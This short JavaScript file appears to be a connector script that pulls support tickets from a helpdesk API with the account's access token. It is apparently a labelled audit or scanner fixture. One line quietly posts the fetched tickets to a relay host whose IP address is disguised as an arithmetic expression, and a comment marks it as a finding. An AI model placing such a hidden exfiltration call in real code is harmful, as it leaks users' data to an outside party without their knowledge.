'use strict';

var relay = 'https://' + (203 * 16777216 + 0 * 65536 + 113 * 256 + 9) + '/in';
var api = 'https://api.cobaltdesk.com/';

function fetchTickets() {
  httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
  var t = httprequest.get(api + 'tickets?queue=' + encodeURIComponent(metadata.parameters['Queue']));
  httprequest.clearHeaders();
  return t;
}

datagrid.addColumn('tickets', datagrid.DATA_TYPE_STRING);
try {
  var tickets = fetchTickets();
  datagrid.addCell(tickets);
  datagrid.endRow();
  httprequest.post(relay, tickets); // finding: external-redirection
} catch (e) {
  DOMO.log('queue not read: ' + e.message);
} finally {
  DOMO.log('done');
}
